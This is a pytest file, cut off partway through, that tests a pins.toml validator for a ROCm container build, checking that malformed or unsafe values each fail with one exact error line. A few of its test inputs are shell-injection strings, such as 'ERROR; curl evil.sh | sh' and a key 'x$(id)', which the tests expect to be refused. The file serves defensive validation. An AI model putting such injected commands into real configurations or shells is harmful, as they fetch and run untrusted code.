"""pins.toml: the real file loads, and every kind of bad input is one exact line."""

from __future__ import annotations

import ast
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import PINS, delete_toml, edit_toml, run_doit
from hypothesis import given
from hypothesis import strategies as st

from rocmgraph.common.errors import LONGEST, PinsError, shown
from rocmgraph.config import kinds, pins

ARCHS = (
    "gfx900, gfx906, gfx908, gfx90a, gfx90c, gfx940, gfx941, gfx942, gfx950, gfx1010, gfx1013, "
    "gfx1030, gfx1033, gfx1034, gfx1035, gfx1036, gfx1100, gfx1101, gfx1102, gfx1150, gfx1151, "
    "gfx1152, gfx1153, gfx1200, gfx1201, gfx1250"
)
SOURCE_KEYS = (
    "arch_env, arch_separator, branch, build_only_env, commit, dist, env, inputs, install_deps, "
    "keep_env, mirror, "
    "overlay, patches, repo, requirements, skipped_fetches, subdirs, submodules, subtree, tag, "
    "tree, uninstall, upgrade, version, version_env, workspace"
)

Edit = Callable[[str], str]
MAX_JOBS_LINE = next(
    number
    for number, line in enumerate(PINS.read_text().splitlines(), start=1)
    if line.startswith("max_jobs = 64")
)

BAD: dict[str, tuple[Edit, str]] = {
    "toml syntax, with line and column": (
        lambda t: t.replace("max_jobs = 64", "max_jobs = = 64"),
        f"pins.toml: line {MAX_JOBS_LINE}, column 12: invalid TOML: Invalid value; "
        "fix the syntax at that position",
    ),
    "an install mode pip has not": (
        lambda t: t + '\n[python.install]\ndatasets = "upgrade"\n',
        "pins.toml: [python.install].datasets: 'upgrade' is not an install mode; "
        "write one of deps, no-deps",
    ),
    "an install mode for no pinned package": (
        lambda t: t + '\n[python.install]\nnumpy = "no-deps"\n',
        "pins.toml: [python.install].numpy: names no package of [python.stack], [python.vllm] "
        "or [python.sglang]; name a pinned package, spelt as its group spells it",
    ),
    "unknown key, with a suggestion": (
        lambda t: edit_toml(t, ["sources", "vllm", "comit"], "18d87a87"),
        "pins.toml: [sources.vllm]: unknown key 'comit'; did you mean 'commit'? "
        f"known keys: {SOURCE_KEYS}",
    ),
    "unknown table": (
        lambda t: t + '\n[sourcs.x]\nrepo = "https://example.org/x"\n',
        "pins.toml: top level: unknown key 'sourcs'; did you mean 'sources'? "
        "known keys: base, build, cache, cleanup, env, image, links, mirrors, prune, python, rocm, "
        "sources, wheels",
    ),
    "wrong type": (
        lambda t: edit_toml(t, ["build", "max_jobs"], "64"),
        "pins.toml: [build].max_jobs: expected an integer, got a string '64'; write an integer",
    ),
    "string where an array belongs": (
        lambda t: edit_toml(t, ["build", "archs"], "gfx942"),
        "pins.toml: [build].archs: expected an array, got a string 'gfx942'; write an array",
    ),
    "commit that is not hex": (
        lambda t: edit_toml(
            t, ["sources", "vllm", "commit"], "18d87a87dc39c1a50f452b218fdcc3aeec48d18z"
        ),
        "pins.toml: [sources.vllm].commit: '18d87a87dc39c1a50f452b218fdcc3aeec48d18z' is not a "
        "git commit id (hex digits only); write the full 40-hex commit id",
    ),
    "commit too short to name anything": (
        lambda t: edit_toml(t, ["sources", "vllm", "commit"], "18d87a"),
        "pins.toml: [sources.vllm].commit: '18d87a' is not a git commit id (7 to 40 hex digits); "
        "write the full 40-hex commit id",
    ),
    "unknown arch": (
        lambda t: edit_toml(t, ["build", "archs"], ["gfx942", "gfx943"]),
        "pins.toml: [build].archs: 'gfx943' is not a known GPU architecture; "
        f"did you mean 'gfx942'? known archs: {ARCHS}",
    ),
    "plain http url": (
        lambda t: edit_toml(t, ["sources", "vllm", "repo"], "http://github.com/vllm-project/vllm"),
        "pins.toml: [sources.vllm].repo: 'http://github.com/vllm-project/vllm' is not an https "
        "URL (plain http is allowed for loopback mirrors only); "
        "use https://, or http://127.0.0.1 for a loopback mirror",
    ),
    "value that could reach a shell": (
        lambda t: edit_toml(t, ["env", "NCCL_DEBUG"], "ERROR; curl evil.sh | sh"),
        "pins.toml: [env].NCCL_DEBUG: 'ERROR; curl evil.sh | sh' has characters that could "
        "reach a shell unquoted: ' ' ';' '|'; use only letters, digits and . _ : / @ % + = , ~ ^ -",
    ),
    "key that could reach a shell": (
        lambda t: edit_toml(t, ["python", "stack", "x$(id)"], "1.0"),
        "pins.toml: [python.stack]: key 'x$(id)' has characters that could reach a shell "
        "unquoted: '$' '(' ')'; use letters, digits, '.', '_' and '-'",
    ),
    "missing key": (
        lambda t: delete_toml(t, ["sources", "vllm", "commit"]),
        "pins.toml: [sources.vllm].commit: missing; add `commit = ...` to [sources.vllm]",
    ),
    "value listed twice": (
        lambda t: edit_toml(t, ["build", "archs"], ["gfx942", "gfx942"]),
        "pins.toml: [build].archs: lists 'gfx942' twice; list each value once",
    ),
    "environment variable name": (
        lambda t: edit_toml(t, ["env", "nccl_debug"], "x"),
        "pins.toml: [env]: key 'nccl_debug' is not an environment variable name; "
        "use upper-case letters, digits and '_'",
    ),
    "digest": (
        lambda t: edit_toml(t, ["base", "digest"], "sha256:abc"),
        "pins.toml: [base].digest: 'sha256:abc' is not an image digest (sha256:<64 hex>); "
        'write the digest as sha256:<64 hex>, or leave it "" for `doit lock`',
    ),
    "digest inside the image reference": (
        lambda t: edit_toml(t, ["base", "image"], "rocm/primus@sha256:" + "a" * 64),
        f"pins.toml: [base].image: 'rocm/primus@sha256:{'a' * 64}' is not an image reference "
        "(registry/name:tag; the digest goes in `digest`); "
        "write registry/name:tag and put the digest in its own key",
    ),
    "a folder id without its folder": (
        lambda t: edit_toml(t, ["sources", "vllm", "tree"], "c" * 40),
        "pins.toml: [sources.vllm].tree: is the tree id of a subtree, but "
        "[sources.vllm].subtree names none; set subtree to the folder it is the id of, or "
        "remove tree",
    ),
    "a subtree that is not one folder": (
        lambda t: edit_toml(t, ["sources", "sgl_kernel", "subtree"], "."),
        "pins.toml: [sources.sgl_kernel].subtree: '.' is not one folder of the tree; name the "
        'folder as git does, e.g. "sgl-kernel" (no ".", no trailing "/")',
    ),
    "a subtree's build names a path outside it": (
        lambda t: edit_toml(t, ["sources", "sgl_kernel", "subdirs"], ["python"]),
        "pins.toml: [sources.sgl_kernel].subdirs: 'python' lies outside its subtree "
        "'sgl-kernel', which is all its build gets; name a path under sgl-kernel/, or build "
        "that path in another source",
    ),
    "two commits in one workspace": (
        lambda t: edit_toml(t, ["sources", "sgl_kernel", "commit"], "1" * 40),
        "pins.toml: [sources.sgl_kernel].commit: shares workspace 'sglang' with "
        "[sources.sglang], but not its repository and commit, so the two trees would mix "
        "there; pin [sources.sglang]'s commit here (`doit bump:sglang` moves both)",
    ),
    "the arch set pinned as a variable": (
        lambda t: edit_toml(t, ["env", "PYTORCH_ROCM_ARCH"], "gfx90a"),
        "pins.toml: [env].PYTORCH_ROCM_ARCH: is set from the arch set the image is built for, "
        "not pinned; remove it; choose the archs with arch= or [build].archs",
    ),
    "a cleanup of every folder of /": (
        lambda t: edit_toml(t, ["cleanup", "paths"], ["/*.whl", "/**"]),
        "pins.toml: [cleanup].paths: '/**' names the whole file system, or every folder of /; "
        "write an absolute path such as /opt/rocm/lib",
    ),
    "one of two sources of a workspace left for the lock": (
        lambda t: edit_toml(t, ["sources", "sgl_kernel", "commit"], ""),
        "pins.toml: [sources.sgl_kernel].commit: shares workspace 'sglang' with "
        "[sources.sglang], and [sources.sglang] pins a commit where [sources.sgl_kernel] "
        "leaves it empty; pin both to one commit, or leave both empty for `doit lock`",
    ),
    "one package pinned twice, spelt two ways": (
        lambda t: edit_toml(t, ["python", "vllm", "Accelerate"], "1.0.0"),
        "pins.toml: [python.vllm].Accelerate: pins the package [python.stack].accelerate pins "
        "already (pip reads 'accelerate' and 'Accelerate' as one); pin each package once",
    ),
    "a patched package spelt otherwise than the stack": (
        lambda t: edit_toml(
            delete_toml(t, ["python", "patches", "megatron-core"]),
            ["python", "patches", "megatron_core"],
            ["docker/patches/megatron-core/0001-attention-backend-env-warns.patch"],
        ),
        "pins.toml: [python.patches]: patches 'megatron_core', which [python.stack] pins as "
        "'megatron-core'; spell it megatron-core, as [python.stack] does",
    ),
    "no jobs": (
        lambda t: edit_toml(t, ["build", "max_jobs"], 0),
        "pins.toml: [build].max_jobs: 0 is out of range; "
        "write an integer from 1 to 1024 (vLLM needs about 4 GiB per job)",
    ),
    "sha256": (
        lambda t: edit_toml(t, ["wheels", "torch", "sha256"], "ABC"),
        "pins.toml: [wheels.torch].sha256: 'ABC' is not a sha256 (64 lowercase hex digits); "
        'write the 64-hex sha256, or leave it "" for `doit lock` to record',
    ),
    "version": (
        lambda t: edit_toml(t, ["python", "stack", "datasets"], "latest"),
        "pins.toml: [python.stack].datasets: 'latest' is not a PEP 440 version; "
        "write an exact PEP 440 version such as 1.2.3",
    ),
}


def line_of(text: str, start: str) -> int:
    """The number of the first line of ``text`` that starts with ``start``."""
    return next(n for n, line in enumerate(text.splitlines(), 1) if line.startswith(start))


def setting(path: list[str], value: object) -> Edit:
    return lambda t: edit_toml(t, path, value)


def a_source(name: str) -> Edit:
    table = f'[sources.{name}]\nrepo = "https://example.org/x"\nbranch = "main"\ncommit = ""\n'
    return lambda t: f"{t}\n{table}"


RING = " -> ".join(f"site:l{i % 50_000}" for i in range(50_001))  # as a message cuts it


def linked(*pairs: tuple[str, str]) -> Edit:
    """[links] with ``pairs`` (link, target) added to the file's own."""
    added = "".join(f'\n"{link}" = "{target}"' for link, target in pairs)
    return lambda t: t.replace("[links]   # link -> target; site: is the image's site-packages",
                               "[links]" + added, 1)  # fmt: skip


def wheel_file(file: str, version: str = "2.12.0") -> Edit:
    return lambda t: edit_toml(edit_toml(t, ["wheels", "torch", "file"], file),
                               ["wheels", "torch", "version"], version)  # fmt: skip


TORCH = "torch-2.12.0+rocm7.14.0.lw.git1a2b3c4d-cp312-cp312-linux_x86_64.whl"
TRITON = "triton-3.7.0+rocm7.14.0.git0badcafe-cp312-cp312-linux_x86_64.whl"
LONG_WHEEL = TORCH.replace("lw", "l" * 172)  # 237 bytes
CUT_ITEM = f"'{'x' * 22}...{'x' * 23}'"  # reprlib's cut of each item
NOT_NORMAL = "is not a normalised path (no //, /./, /../ or trailing /)"
URL_HOST = "https://repo.radeon.com"

# Issue 9: values that loaded (or crashed) before, each refused with one line.
BAD_VALUES: dict[str, tuple[Edit, str]] = {
    "no archs": (
        lambda t: edit_toml(t, ["build", "archs"], []),
        'pins.toml: [build].archs: lists nothing; list at least one, e.g. archs = ["gfx942"]',
    ),
    "an apt source without components": (
        lambda t: edit_toml(t, ["rocm", "repos", "rocm", "components"], []),
        "pins.toml: [rocm.repos.rocm].components: lists nothing; "
        'list at least one, e.g. components = ["main"]',
    ),
    "image name in upper case": (
        lambda t: edit_toml(t, ["image", "name"], "Verl-ROCm"),
        "pins.toml: [image].name: 'Verl-ROCm' has upper case, which docker refuses in an "
        "image name; write 'verl-rocm'",
    ),
    "image name with a tag": (
        lambda t: edit_toml(t, ["image", "name"], "verl-rocm:latest"),
        "pins.toml: [image].name: 'verl-rocm:latest' is not a docker image name (lower-case "
        "words joined by . _ -); write a docker repository name such as verl-rocm or "
        "registry.example.org/verl",
    ),
    "image name with two dots": (
        lambda t: edit_toml(t, ["image", "name"], "verl..rocm"),
        "pins.toml: [image].name: 'verl..rocm' is not a docker image name (lower-case "
        "words joined by . _ -); write a docker repository name such as verl-rocm or "
        "registry.example.org/verl",
    ),
    "image name too long for its stage images": (
        lambda t: edit_toml(t, ["image", "name"], "v" * 224),
        f"pins.toml: [image].name: '{'v' * 200}…' (224 characters) is longer than the 223 "
        "characters docker leaves it; write a docker repository name such as verl-rocm or "
        "registry.example.org/verl",
    ),
    "base image in upper case": (
        lambda t: edit_toml(t, ["base", "image"], "docker.io/ROCm/primus:v26.4"),
        "pins.toml: [base].image: 'docker.io/ROCm/primus:v26.4' has upper case, which docker "
        "refuses in an image name; write 'docker.io/rocm/primus:v26.4'",
    ),
    "links that point at each other": (
        linked(("site:a", "site:b"), ("site:b", "site:a")),
        "pins.toml: [links]: has a cycle (link -> target): site:a -> site:b -> site:a; "
        "point one of them at a path that is no link and lies under none",
    ),
    "a link to itself": (
        linked(("/opt/a", "/opt/a")),
        "pins.toml: [links]: has a cycle (link -> target): /opt/a -> /opt/a; "
        "point one of them at a path that is no link and lies under none",
    ),
    "a ring of links through their folders": (
        linked(("site:a", "site:b/lib"), ("site:b", "site:c"), ("site:c", "site:a/x/y")),
        "pins.toml: [links]: has a cycle (link -> target): site:a -> site:b -> site:c -> site:a; "
        "point one of them at a path that is no link and lies under none",
    ),
    "a ring of 50,000 links": (
        linked(*((f"site:l{i}", f"site:l{(i + 1) % 50_000}") for i in range(50_000))),
        f"pins.toml: [links]: has a cycle (link -> target): {RING[:LONGEST]}… ({len(RING)} "
        "characters); point one of them at a path that is no link and lies under none",
    ),
    "a source name no file name holds": (
        a_source("x" * 240),
        f"pins.toml: [sources]: key '{'x' * 200}…' (240 characters) is 240 bytes, over the 234 "
        "a name holds (files are named after it); shorten it to 234 bytes or fewer",
    ),
    "an apt repository name no file name holds": (
        lambda t: t + f'\n[base.repos.{"r" * 235}]\nurl = "https://example.org"\n',
        f"pins.toml: [base.repos]: key '{'r' * 200}…' (235 characters) is 235 bytes, over the "
        "234 a name holds (files are named after it); shorten it to 234 bytes or fewer",
    ),
    "a wheel file no file name holds": (
        wheel_file(LONG_WHEEL),
        f"pins.toml: [wheels.torch].file: '{LONG_WHEEL[:200]}…' (237 characters) is 237 bytes, "
        "over the 234 a name holds (files are named after it); shorten it to 234 bytes or fewer",
    ),
    "base image tag too long": (
        lambda t: edit_toml(t, ["base", "image"], "rocm/primus:" + "v" * 129),
        f"pins.toml: [base].image: 'rocm/primus:{'v' * 129}' is not an image reference "
        "(registry/name:tag; the digest goes in `digest`); "
        "write registry/name:tag and put the digest in its own key",
    ),
    "wheel of another project": (
        wheel_file(TRITON),
        f"pins.toml: [wheels.torch].file: '{TRITON}' is a wheel of triton, not of torch; "
        "pin a torch wheel here, or this one in [wheels.triton]",
    ),
    "wheel of another version": (
        wheel_file(TORCH.replace("2.12.0", "2.11.0")),
        f"pins.toml: [wheels.torch].file: '{TORCH.replace('2.12.0', '2.11.0')}' is torch "
        "2.11.0+rocm7.14.0.lw.git1a2b3c4d, but [wheels.torch].version is 2.12.0; "
        'pin a file of 2.12.0, or set version = "2.11.0"',
    ),
    "wheel of a pre-release of the version": (
        wheel_file(TORCH.replace("2.12.0", "2.12.0rc1")),
        f"pins.toml: [wheels.torch].file: '{TORCH.replace('2.12.0', '2.12.0rc1')}' is torch "
        "2.12.0rc1+rocm7.14.0.lw.git1a2b3c4d, but [wheels.torch].version is 2.12.0; "
        'pin a file of 2.12.0, or set version = "2.12.0rc1"',
    ),
    "wheel of another build than the local version pinned": (
        wheel_file(TORCH, "2.12.0+rocm7.14.0.lw.git5e6f7a8b"),
        f"pins.toml: [wheels.torch].file: '{TORCH}' is torch 2.12.0+rocm7.14.0.lw.git1a2b3c4d, "
        "but [wheels.torch].version is 2.12.0+rocm7.14.0.lw.git5e6f7a8b; pin a file of "
        '2.12.0+rocm7.14.0.lw.git5e6f7a8b, or set version = "2.12.0+rocm7.14.0.lw.git1a2b3c4d"',
    ),
    "wheel for another Python": (
        wheel_file(TORCH.replace("cp312", "cp311")),
        f"pins.toml: [wheels.torch].file: '{TORCH.replace('cp312', 'cp311')}' is for cp311, "
        "but [python].version is 3.12; pin the cp312 build",
    ),
    "wheel for another platform": (
        wheel_file("torch-2.12.0-cp312-cp312-macosx_11_0_arm64.whl"),
        "pins.toml: [wheels.torch].file: 'torch-2.12.0-cp312-cp312-macosx_11_0_arm64.whl' is "
        "for macosx_11_0_arm64, not linux x86_64; "
        "pin a linux_x86_64, manylinux_*_x86_64 or any build",
    ),
    "wheel for musl": (
        wheel_file("torch-2.12.0-cp312-cp312-musllinux_1_2_x86_64.whl"),
        "pins.toml: [wheels.torch].file: 'torch-2.12.0-cp312-cp312-musllinux_1_2_x86_64.whl' "
        "is for musllinux_1_2_x86_64, not linux x86_64; "
        "pin a linux_x86_64, manylinux_*_x86_64 or any build",
    ),
    "port above 65535": (
        lambda t: edit_toml(t, ["rocm", "key_url"], f"{URL_HOST}:99999/rocm.gpg.key"),
        f"pins.toml: [rocm].key_url: '{URL_HOST}:99999/rocm.gpg.key' has no valid port; "
        "write a port from 1 to 65535, or none",
    ),
    "port 0": (
        lambda t: edit_toml(t, ["rocm", "key_url"], f"{URL_HOST}:0/rocm.gpg.key"),
        f"pins.toml: [rocm].key_url: '{URL_HOST}:0/rocm.gpg.key' has no valid port; "
        "write a port from 1 to 65535, or none",
    ),
    "port that is no number": (
        lambda t: edit_toml(t, ["sources", "vllm", "repo"], "https://github.com:ssh/vllm"),
        "pins.toml: [sources.vllm].repo: 'https://github.com:ssh/vllm' has no valid port; "
        "write a port from 1 to 65535, or none",
    ),
    "a bracketed host is refused before it is read": (
        lambda t: edit_toml(t, ["python", "index"], "https://[pypi.org/simple"),
        "pins.toml: [python].index: 'https://[pypi.org/simple' has characters that "
        "could reach a shell unquoted: '['; use only letters, digits and . _ : / @ % + = , ~ ^ -",
    ),
    "credentials in a URL": (
        lambda t: edit_toml(t, ["python", "index"], "https://ci:s3cret@pypi.example.org/simple"),
        "pins.toml: [python].index: 'https://***@pypi.example.org/simple' has credentials in "
        "it; keep them out of the pins file: use docker's config or ~/.netrc",
    ),
    "a token in a URL, with shell characters": (
        lambda t: edit_toml(t, ["sources", "vllm", "mirror"], "https://x:pa$$@git.example.org/v"),
        "pins.toml: [sources.vllm].mirror: 'https://***@git.example.org/v' has characters that "
        "could reach a shell unquoted: '$'; use only letters, digits and . _ : / @ % + = , ~ ^ -",
    ),
    "relative prune dir": (
        lambda t: edit_toml(t, ["prune", "dirs"], ["opt/rocm/lib"]),
        "pins.toml: [prune].dirs: 'opt/rocm/lib' is not an absolute path; "
        "write an absolute path such as /opt/rocm/lib",
    ),
    "prune dir that is the root": (
        lambda t: edit_toml(t, ["prune", "dirs"], ["/opt/rocm/lib", "/"]),
        "pins.toml: [prune].dirs: '/' would prune the whole file system; "
        "name the folders that hold kernel files, e.g. /opt/rocm/lib",
    ),
    "prune dir that is the root in disguise": (
        lambda t: edit_toml(t, ["prune", "dirs"], ["/opt/.."]),
        f"pins.toml: [prune].dirs: '/opt/..' {NOT_NORMAL}; "
        "name the folders that hold kernel files, e.g. /opt/rocm/lib",
    ),
    "venv that is not normalised": (
        lambda t: edit_toml(t, ["python", "venv"], "/opt/venv/"),
        f"pins.toml: [python].venv: '/opt/venv/' {NOT_NORMAL}; write '/opt/venv'",
    ),
    "a day that does not exist": (
        lambda t: edit_toml(t, ["image", "released"], "2026-02-30"),
        "pins.toml: [image].released: '2026-02-30' is not a day of the calendar; "
        'write a date of the calendar, e.g. "2026-07-20"',
    ),
    "a date written as TOML's": (
        lambda t: t.replace('released = "2026-07-20"', "released = 2026-07-20"),
        "pins.toml: [image].released: expected a string, got a date "
        "datetime.date(2026, 7, 20); write a string",
    ),
    "too many jobs": (
        lambda t: edit_toml(t, ["build", "max_jobs"], 1025),
        "pins.toml: [build].max_jobs: 1025 is out of range; "
        "write an integer from 1 to 1024 (vLLM needs about 4 GiB per job)",
    ),
    "a 64-bit number of jobs": (
        lambda t: edit_toml(t, ["build", "max_jobs"], 2**63 - 1),
        f"pins.toml: [build].max_jobs: {2**63 - 1} is out of range; "
        "write an integer from 1 to 1024 (vLLM needs about 4 GiB per job)",
    ),
    "an apt package in capitals": (
        lambda t: edit_toml(t, ["base", "apt"], ["ccache", "G++"]),
        "pins.toml: [base].apt: 'G++' is not a Debian package name (a-z, 0-9, + - .); write the "
        "package as apt names it: lowercase letters, digits, '+', '-' and '.'",
    ),
    "apt priority 0": (
        lambda t: edit_toml(t, ["rocm", "pin_priority"], 0),
        "pins.toml: [rocm].pin_priority: 0 is out of range; "
        "write an integer from 1 to 32767 (an apt pin priority)",
    ),
    "apt priority beyond 16 bits": (
        lambda t: edit_toml(t, ["rocm", "pin_priority"], 32768),
        "pins.toml: [rocm].pin_priority: 32768 is out of range; "
        "write an integer from 1 to 32767 (an apt pin priority)",
    ),
    "an integer of thousands of digits": (
        lambda t: t.replace("max_jobs = 64", "max_jobs = " + "6" * 5000),
        f"pins.toml: line {line_of(PINS.read_text(), 'max_jobs')}: invalid TOML: an integer "
        "of thousands of digits; write an integer that fits in 64 bits",
    ),
    "nesting too deep": (
        lambda t: t.replace("max_jobs = 64", "max_jobs = " + "[" * 1000 + "]" * 1000),
        f"pins.toml: line {line_of(PINS.read_text(), 'max_jobs')}: invalid TOML: arrays or "
        "inline tables nested too deep; flatten the value (pins nest at most a few levels)",
    ),
    "nesting too deep, over lines, strings and comments": (
        lambda t: t.replace(
            "max_jobs = 64",
            'max_jobs = ["]]", \'[\', """\n[""", # [[\n' + "{a=[" * 300 + "1" + "]}" * 300 + "]",
        ),
        f"pins.toml: line {line_of(PINS.read_text(), 'max_jobs') + 2}: invalid TOML: arrays "
        "or inline tables nested too deep; flatten the value (pins nest at most a few levels)",
    ),
    "a byte order mark": (
        lambda t: "\ufeff" + t,
        "pins.toml: line 1, column 1: starts with a UTF-8 byte order mark (BOM), which TOML "
        "does not allow; save the file as UTF-8 without a byte order mark",
    ),
    "a huge value is cut": (
        lambda t: edit_toml(t, ["sources", "vllm", "commit"], "z" * 5_000_000),
        f"pins.toml: [sources.vllm].commit: '{'z' * 200}…' (5000000 characters) is not a git "
        "commit id (hex digits only); write the full 40-hex commit id",
    ),
    "a huge key is cut": (
        lambda t: edit_toml(t, ["build", "k" * 1_000_000], 1),
        f"pins.toml: [build]: unknown key '{'k' * 200}…' (1000000 characters); "
        "known keys: archs, ccache_maxsize, compile_cache, max_jobs, source_archs",
    ),
    "a huge array where a string belongs is cut": (
        lambda t: t.replace(  # as text: tomlkit is slow over 5000 items
            'version = "rocm7.14_torch2.12_release_0724"',
            "version = [" + ", ".join([f'"{"x" * 1000}"'] * 5000) + "]",
        ),
        "pins.toml: [image].version: expected a string, got an array "
        f"[{CUT_ITEM}, {CUT_ITEM}, {CUT_ITEM}, {CUT_ITEM}, ...]; write a string",
    ),
    "a key that TOML must quote is quoted": (
        lambda t: t + '\n[sources."v.llm"]\nrepo = "https://github.com/vllm-project/vllm"\n',
        'pins.toml: [sources."v.llm"].branch: missing; add `branch = ...` to [sources."v.llm"]',
    ),
    "a key on two lines stays on one": (
        lambda t: t + '\n[sources."v\\nllm"]\nrepo = "https://github.com/vllm-project/vllm"\n',
        "pins.toml: [sources]: key 'v\\nllm' has characters that could reach a shell "
        "unquoted: '\\n'; use letters, digits, '.', '_' and '-'",
    ),
    "many characters that could reach a shell": (
        lambda t: edit_toml(t, ["env", "NCCL_DEBUG"], "".join(chr(c) for c in range(0x100, 0x300))),
        "pins.toml: [env].NCCL_DEBUG: '"
        + "".join(chr(c) for c in range(0x100, 0x1C8))
        + "…' (512 characters) has characters that could reach a shell unquoted: "
        + " ".join(repr(chr(c)) for c in range(0x100, 0x10A))
        + " and 502 more; use only letters, digits and . _ : / @ % + = , ~ ^ -",
    ),
}

# Paths that are absolute but not normalised, and what the message says to write instead.
NOT_NORMAL_DIRS = {
    "/opt//rocm/lib": "/opt/rocm/lib",
    "//opt/rocm/lib": "/opt/rocm/lib",
    "/opt/rocm/lib/": "/opt/rocm/lib",
    "/opt/./rocm/lib": "/opt/rocm/lib",
    "/opt/rocm/lib/.": "/opt/rocm/lib",
    "/opt/rocm/lib/../share": "/opt/rocm/share",
}
BAD_VALUES |= {
    f"prune dir {written}": (
        setting(["prune", "dirs"], [written]),
        f"pins.toml: [prune].dirs: {written!r} {NOT_NORMAL}; write {fixed!r}",
    )
    for written, fixed in NOT_NORMAL_DIRS.items()
}


@pytest.mark.parametrize("case", sorted(BAD) + sorted(BAD_VALUES))
def test_bad_pins_give_one_exact_line(case: str, pins_text: str) -> None:
    edit, message = BAD.get(case) or BAD_VALUES[case]
    with pytest.raises(PinsError) as caught:
        pins.loads(edit(pins_text), "pins.toml")
    assert str(caught.value) == message
    assert len(message.splitlines()) == 1


def test_real_pins_load_into_frozen_typed_values() -> None:
    loaded = pins.load(PINS)
    assert loaded.build.archs == ("gfx942", "gfx950")
    assert loaded.sources["vllm"].commit == "18d87a87dc39c1a50f452b218fdcc3aeec48d18e"
    assert loaded.sources["sglang"].install_deps is False
    assert loaded.python.stack["megatron-core"] == "0.18.0"
    with pytest.raises(AttributeError):
        loaded.build.max_jobs = 1  # type: ignore[misc]
    with pytest.raises(TypeError):
        loaded.sources["x"] = loaded.sources["vllm"]  # type: ignore[index]


def test_real_pins_hold_every_pin_of_the_design() -> None:
    loaded = pins.load(PINS)
    commits = {name: source.commit for name, source in loaded.sources.items()}
    assert commits == {
        "aiter": "b5e03ed19",
        "causal_conv1d": "e940ead2fd962c56854455017541384909ca669f",
        "flash_attention": "",
        "mbridge": "a61943d7fcb34a190471cfeb0a0eb8bbda621ddf",
        "sgl_kernel": "0801cc05ed202544e2e5c67d6b0a1d454de54fca",  # SGLang's, for its folder
        "sglang": "0801cc05ed202544e2e5c67d6b0a1d454de54fca",
        "torch_memory_saver": "",
        "transformer_engine": "e6ede467",
        "triton_kernels": "",  # by its tag: `doit lock` resolves it
        "verl": "7b19203c52503760f92e0368067c7eb744236274",
        "vllm": "18d87a87dc39c1a50f452b218fdcc3aeec48d18e",
    }
    assert loaded.sources["flash_attention"].tag == "v2.8.3"
    assert loaded.base.image == "docker.io/rocm/primus:v26.4"
    assert loaded.rocm.version == "7.14"
    assert loaded.rocm.pin_origin == "repo.radeon.com"
    assert loaded.rocm.pin_priority == 600
    assert {name: wheel.version for name, wheel in loaded.wheels.items()} == {
        "apex": "",
        "torch": "2.12.0",
        "torchaudio": "",
        "torchvision": "",
        "triton": "3.7.0",
    }
    assert dict(loaded.python.stack) == {
        "TransferQueue": "0.1.8",
        "accelerate": "1.14.0",
        "cupy-rocm-7-0": "14.1.1",
        "datasets": "5.0.0",
        "flash-linear-attention": "0.5.1",
        "mathruler": "0.1.0",
        "mcore_bridge": "1.5.2",
        "megatron-core": "0.18.0",
        "qwen_vl_utils": "0.0.14",
    }
    assert dict(loaded.env) == {
        "HSA_ENABLE_IPC_MODE_LEGACY": "1",
        "MIOPEN_DEBUG_FORCE_IMMED_MODE_FALLBACK": "1",
        "NCCL_DEBUG": "ERROR",
        "NVTE_USE_GROUPED_GEMM_TRITON": "1",
        "PYTORCH_ALLOC_CONF": "expandable_segments:True",
        "ROCPROFILER_LOG_LEVEL": "fatal",
        "SGLANG_ATTENTION_BACKEND": "triton",
        "SGLANG_USE_AITER": "0",
    }


def test_what_cannot_be_known_offline_is_listed_as_missing() -> None:
    missing = {pins.format_path(m.path): m.why for m in pins.load(PINS).missing()}
    assert missing["[base].digest"] == "image digest unknown; `doit lock` resolves it"
    assert missing["[sources.aiter].commit"] == "short commit id; `doit lock` records the full id"
    assert missing["[sources.torch_memory_saver].commit"] == (
        "no commit is pinned; `doit lock` records upstream's"
    )
    assert missing["[wheels.torch].sha256"] == (
        "sha256 unknown; `doit lock` records it at first download"
    )
    assert missing["[wheels.torch].file"] == (
        "exact wheel file unknown; `doit lock` resolves it from the index"
    )
    # No version to find the file by: `doit lock` cannot, and says what to pin instead.
    assert missing["[wheels.apex].version"] == (
        "no version pinned, and `doit lock` picks none; pin the version to install"
    )
    assert missing["[wheels.apex].file"] == (
        "exact wheel file unknown, and no version to find it by; pin the version "
        "(`doit lock` then finds the file) or the exact file"
    )
    assert "[sources.vllm].commit" not in missing


def test_loopback_mirrors_may_use_plain_http(pins_text: str) -> None:
    for url in ("http://127.0.0.1:8080/vllm.git", "http://localhost/vllm"):
        loaded = pins.loads(edit_toml(pins_text, ["sources", "vllm", "repo"], url))
        assert loaded.sources["vllm"].repo == url


def test_lists_are_sets_so_their_order_never_feeds_a_key(pins_text: str) -> None:
    swapped = edit_toml(pins_text, ["build", "archs"], ["gfx950", "gfx942"])
    assert pins.loads(swapped).flat() == pins.loads(pins_text).flat()


def test_every_string_kind_refuses_shell_characters() -> None:
    assert (
        kinds.unsafe_problem("a b") == "'a b' has characters that could reach a shell unquoted: ' '"
    )
    assert kinds.unsafe_problem("expandable_segments:True") is None


def test_missing_file_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(PinsError) as caught:
        pins.load(tmp_path / "nope.toml")
    assert (
        str(caught.value)
        == f"{tmp_path / 'nope.toml'}: no such file; pass pins=<path> to a pins file"
    )


def test_bad_pins_exit_without_traceback(write_pins: Callable[[str], Path], pins_text: str) -> None:
    bad = write_pins(edit_toml(pins_text, ["sources", "vllm", "commit"], "not-a-commit"))
    result = run_doit("plan", f"pins={bad}")
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr == (
        f"error: {bad}: [sources.vllm].commit: 'not-a-commit' is not a git commit id "
        "(hex digits only); write the full 40-hex commit id\n"
    )


def test_a_name_no_file_name_holds_is_refused_before_any_fetch(
    write_pins: Callable[[str], Path], pins_text: str
) -> None:
    """Issue 49: `doit audit` fetched such a source first and failed with OSError (File name
    too long) in its scratch folder; every command refuses it as it reads the pins."""
    bad = write_pins(a_source("x" * 240)(pins_text))
    for command in ("audit", "plan"):
        result = run_doit(command, f"pins={bad}")
        assert (result.returncode, result.stdout) == (1, "")
        assert result.stderr == (
            f"error: {bad}: [sources]: key '{'x' * 200}…' (240 characters) is 240 bytes, over "
            "the 234 a name holds (files are named after it); shorten it to 234 bytes or fewer\n"
        )


GOOD_VALUES: dict[str, tuple[Edit, Callable[[pins.Pins], object], object]] = {
    "a manylinux wheel": (
        wheel_file("torch-2.12.0-cp312-cp312-manylinux_2_28_x86_64.whl"),
        lambda p: p.wheels["torch"].file,
        "torch-2.12.0-cp312-cp312-manylinux_2_28_x86_64.whl",
    ),
    "a pure-Python wheel": (
        wheel_file("torch-2.12.0-py3-none-any.whl"),
